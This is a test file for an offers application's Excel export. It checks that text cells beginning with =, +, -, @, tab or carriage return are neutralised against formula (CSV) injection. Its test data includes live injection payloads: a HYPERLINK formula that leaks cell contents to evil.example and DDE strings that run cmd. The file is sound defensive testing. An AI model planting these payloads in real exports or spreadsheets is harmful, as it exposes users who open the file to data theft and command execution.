// Excel export and formula injection (issue 10, OWASP "CSV injection"): a text cell starting with = + - @
// (or a tab / carriage return) is written with a leading apostrophe in a text-formatted cell, so no
// spreadsheet runs it, even after the cell is edited or the sheet is saved as CSV. Read back with exceljs.
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import { excelColumns } from '../../demo/server/excel';
import { USER, type ApiClient, type Harness, useSignedInHarness } from './helpers';

let h: Harness;
let dubois: ApiClient;
useSignedInHarness((started) => ({ h, dubois } = started));

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', '+33 1 23 45 67 89', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1+1', '\t=1+1', '\r=1+1', '==', '-', '@',
];
const SAFE = ['Résidence Les Tilleuls', "'déjà cité", ' =espace devant', '1=1', 'a@b.fr'];
const TEXT_FIELDS = ['offre_nom', 'projet_ref', 'projet_nom', 'client_societe', 'client_cp', 'client_ville', 'transport_dest', 'produits', 'statut'] as const;

/** What an XML round trip keeps of a text: a carriage return is read back as a line feed. */
const xml = (s: string): string => s.replace(/\r/g, '\n');

/** One offer per value, the value in every text field. */
function insertOffers(values: readonly string[]): void {
  const db = new Database(h.dbPath);
  try {
    const stmt = db.prepare(`INSERT INTO offres_bardages (user_id, offre_ref, offre_statut, qte_m2, budget, ${TEXT_FIELDS.join(', ')})
      VALUES (?, ?, '10', -12.5, 1000, ${TEXT_FIELDS.map(() => '?').join(', ')})`);
    values.forEach((v, i) => stmt.run(USER.dubois, `XLS-${i}-${v.length}-${Math.random().toString(36).slice(2, 8)}`, ...TEXT_FIELDS.map(() => v)));
  } finally {
    db.close();
  }
}

async function exportSheet(): Promise<ExcelJS.Worksheet> {
  const res = await dubois.get('/bardages/excel-report?userid=2&statut=&offre_ref=XLS-');
  expect(res.status).toBe(200);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
  return wb.worksheets[0];
}

it('hostile text is written as text with a leading apostrophe; other text and numbers as they are', async () => {
  insertOffers([...HOSTILE, ...SAFE]);
  const ws = await exportSheet();
  const cols = excelColumns('bardages');
  const at = (key: string): number => cols.findIndex((c) => c.key === key) + 1;
  const seen = new Map<string, number>();
  ws.eachRow((row, n) => {
    if (n === 1) return;
    const shown = String(row.getCell(at('offre_nom')).value);
    const hostile = shown.startsWith("'") && HOSTILE.map(xml).includes(shown.slice(1));
    const original = hostile ? shown.slice(1) : shown;
    expect(hostile || SAFE.includes(original)).toBe(true);
    for (const key of TEXT_FIELDS) {
      const cell = row.getCell(at(key));
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(hostile ? `'${original}` : original);
      if (hostile) expect(cell.numFmt).toBe('@');
    }
    expect(row.getCell(at('qte_m2')).value).toBe(-12.5);
    expect(row.getCell(at('budget')).value).toBe(1000);
    seen.set(original, (seen.get(original) ?? 0) + 1);
  });
  expect([...seen.keys()].sort()).toEqual([...HOSTILE, ...SAFE].map(xml).sort());
});

it('no cell of the sheet, header included, is a formula or a hostile string left as it is', async () => {
  const ws = await exportSheet();
  let cells = 0;
  ws.eachRow((row) => row.eachCell((cell) => {
    cells++;
    expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
    if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
  }));
  expect(cells).toBeGreaterThan(100);
});
